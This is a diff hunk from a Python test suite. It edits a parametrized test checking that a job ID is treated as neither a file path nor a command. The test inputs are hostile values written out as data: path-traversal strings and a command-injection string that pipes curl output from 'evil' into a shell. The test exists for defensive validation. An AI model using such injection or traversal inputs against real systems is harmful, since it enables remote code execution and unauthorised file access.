@@ -143,7 +143,7 @@ def test_a_heatmap_without_maps_says_so(fake, monkeypatch, tmp_path):
     assert list(tmp_path.iterdir()) == []
 
 
-@pytest.mark.parametrize("said", ["../../../evil", "/tmp/evil", "x; curl evil | sh", "c:evil", 7, "a" * 5000])
+@pytest.mark.parametrize("said", ["../../../evil", "/etc/evil", "x; curl evil | sh", "c:evil", 7, "a" * 5000])
 def test_the_id_of_a_job_is_no_path_and_no_command(stored, tmp_path, said):
     """It names folders of reports and stands in commands to paste; a downloaded folder may say anything."""
     folder = tmp_path / "c.zarr"
